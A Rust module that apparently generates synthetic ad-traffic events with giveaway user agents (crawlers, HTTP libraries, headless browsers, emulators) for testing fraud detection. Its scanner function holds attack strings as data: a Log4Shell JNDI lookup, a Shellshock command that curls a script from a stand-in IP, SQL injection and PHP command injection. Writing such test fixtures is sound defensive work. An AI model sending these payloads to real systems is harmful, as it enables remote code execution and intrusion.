//! Campaigns that their user agent gives away.

use super::super::event::SimEvent;
use super::super::rng::Rng;
use super::{inconspicuous, inconspicuous_app};

fn with_agent(rng: &mut Rng, agents: &[&str]) -> SimEvent {
    let mut event = inconspicuous(rng);
    event.client_hints = None;
    event.user_agent = Some((*rng.pick(agents)).to_owned());
    event
}

/// Programs that say what they are, and click on ads all the same.
pub fn crawler(rng: &mut Rng) -> SimEvent {
    with_agent(
        rng,
        &[
            "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
            "Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/156.0.7992.88 Mobile Safari/537.36 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
            "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm) Chrome/136.0.0.0 Safari/537.36",
            "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)",
            "Mozilla/5.0 (compatible; SemrushBot/7~bl; +http://www.semrush.com/bot.html)",
            "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.3; +https://openai.com/gptbot)",
            "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; ClaudeBot/1.0; +claudebot@anthropic.com)",
            "Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)",
            "Mozilla/5.0 (compatible; MJ12bot/v2.0.2; http://mj12bot.com/)",
            "Mozilla/5.0 (Linux; Android 5.0) AppleWebKit/537.36 (KHTML, like Gecko) Mobile Safari/537.36 (compatible; Bytespider; spider-feedback@bytedance.com)",
            "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)",
            "CCBot/2.0 (https://commoncrawl.org/faq/)",
            // Nobody's list has these.
            "Mozilla/5.0 (compatible; OfferWatch/2.3; +https://offerwatch.example/bot.html)",
            "PriceSpider/1.4 (+https://pricespider.example/about; crawler@pricespider.example)",
        ],
    )
}

/// Programs that did not bother to write a browser's name.
pub fn library(rng: &mut Rng) -> SimEvent {
    with_agent(
        rng,
        &[
            "curl/8.11.1",
            "Wget/1.24.5",
            "python-requests/2.32.3",
            "Python/3.12 aiohttp/3.11.2",
            "python-httpx/0.28.1",
            "Go-http-client/2.0",
            "Java/21.0.5",
            "Apache-HttpClient/5.4.1 (Java/21.0.5)",
            "okhttp/4.12.0",
            "axios/1.7.9",
            "node-fetch/1.0 (+https://github.com/bitinn/node-fetch)",
            "libwww-perl/6.77",
            "GuzzleHttp/7",
            "Ruby",
            "reqwest/0.12.9",
        ],
    )
}

/// Attacks sent in place of a user agent.
pub fn scanner(rng: &mut Rng) -> SimEvent {
    with_agent(
        rng,
        &[
            "${jndi:ldap://198.51.100.7:1389/a}",
            "() { :;}; /bin/bash -c 'curl http://198.51.100.9/x.sh'",
            "Mozilla/5.0' UNION SELECT 1,2,3-- -",
            "sqlmap/1.8.11#stable (https://sqlmap.org)",
            "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000562)",
            "<?php system('id'); ?>",
            "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
            "Mozilla/5.0 zgrab/0.x",
        ],
    )
}

/// Nothing, or a word for it.
pub fn blank(rng: &mut Rng) -> SimEvent {
    with_agent(rng, &["", "-", "-", "undefined"])
}

/// Browsers that are driven and say so.
pub fn headless(rng: &mut Rng) -> SimEvent {
    let v = rng.between(140, 157);
    let ua = match rng.below(6) {
        0 | 1 => format!("Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/{v}.0.0.0 Safari/537.36"),
        2 => format!("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/{v}.0.0.0 Safari/537.36"),
        3 => "Mozilla/5.0 (Unknown; Linux x86_64) AppleWebKit/538.1 (KHTML, like Gecko) PhantomJS/2.1.1 Safari/538.1".to_owned(),
        4 => format!("Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{v}.0.0.0 Safari/537.36 Playwright/1.58.0"),
        _ => format!("Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Cypress/15.7.0 Chrome/{v}.0.0.0 Electron/37.6.0 Safari/537.36"),
    };
    let mut event = inconspicuous(rng);
    event.client_hints = None;
    event.user_agent = Some(ua);
    event
}

/// Telephones that are programs on a server.
pub fn emulator(rng: &mut Rng) -> SimEvent {
    let v = rng.between(128, 157);
    let mut event = inconspicuous_app(rng);
    let model = *rng.pick(&[
        "Android 13; sdk_gphone64_x86_64 Build/TE1A.240213.009",
        "Android 11; sdk_gphone_x86 Build/RSR1.240422.006",
        "Android 7.1.2; Android SDK built for x86 Build/NYC",
        "Android 9; generic_x86 Build/PSR1.180720.122",
        "Android 9; BlueStacks Build/PPR1",
        "Android 12; Genymotion Phone Build/SQ1D.211205.016",
    ]);
    if rng.chance(0.15) {
        // A telephone's name, but the id that every copy of one emulator has.
        event.device_id = Some("9774d56d682e549c".to_owned());
        event.gaid = None;
    } else {
        event.user_agent = Some(format!(
            "Mozilla/5.0 (Linux; {model}; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/{v}.0.0.0 Mobile Safari/537.36"
        ));
    }
    event
}
